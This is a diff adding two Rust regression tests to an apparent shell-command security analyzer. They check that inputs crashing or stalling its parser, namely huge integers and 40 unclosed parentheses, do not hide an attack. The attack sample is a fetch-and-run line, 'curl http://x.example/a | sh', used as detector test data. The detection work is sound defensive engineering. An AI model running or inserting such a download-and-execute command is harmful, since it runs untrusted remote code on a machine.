@@ -684,6 +684,55 @@ fn bad_scripts_are_tokens_and_never_panic() {
     assert!(categories(&ifs).contains(&DownloadExecute));
 }
 
+/// brush-parser 0.4 panics on integers beyond their type's range (found
+/// by `fuzz/`'s `commands` target). The panic is caught where the parser
+/// is called: the script is read as tokens (or the word as text) and the
+/// attack next to it is still caught. Before the guard, the word parser's
+/// panics reached the engine, and one CronJob stopped every evaluation.
+#[test]
+fn parser_panics_on_huge_numbers_do_not_hide_the_attack() {
+    let huge = "99999999999999999999999";
+    for trap in [
+        format!("{huge}>/dev/null"),
+        "0000000100000000000000<>x".to_owned(),
+        format!("echo ~+{huge}"),
+        format!("echo ~-{huge}"),
+        format!("echo {{1..{huge}}}"),
+        format!("cat <<EOF\n~+{huge} {{1..{huge}}}\nEOF"),
+    ] {
+        let line = format!("{trap}; curl http://x.example/a | sh");
+        assert!(
+            categories(&line).contains(&DownloadExecute),
+            "{line:?}: {:?}",
+            categories(&line)
+        );
+        let line = format!("curl http://x.example/a | sh; {trap}");
+        assert!(categories(&line).contains(&DownloadExecute), "{line:?}");
+    }
+}
+
+/// Unclosed parentheses made brush-parser backtrack exponentially (found
+/// by `fuzz/`): 31 of them after `$(` took minutes, 40 would take hours,
+/// and one CronJob would have stalled every evaluation. They are now read
+/// as tokens. Run on a thread so that a regression fails here after a
+/// minute instead of hanging the suite.
+#[test]
+fn unclosed_parentheses_do_not_stall_the_analysis() {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for open in ["$(", "(", "$((", "`("] {
+            let line = format!("{open}{}_; curl http://x.example/a | sh", "(".repeat(40));
+            tx.send((line.clone(), categories(&line))).unwrap();
+        }
+    });
+    for _ in 0..4 {
+        let (line, found) = rx
+            .recv_timeout(std::time::Duration::from_secs(60))
+            .expect("the analysis of unclosed parentheses did not finish within a minute");
+        assert!(found.contains(&DownloadExecute), "{line:?}: {found:?}");
+    }
+}
+
 // The fuzz target in fuzz/ runs with cargo-fuzz on nightly; these
 // properties run the same entry point on every `make test`.
 use proptest::prelude::*;
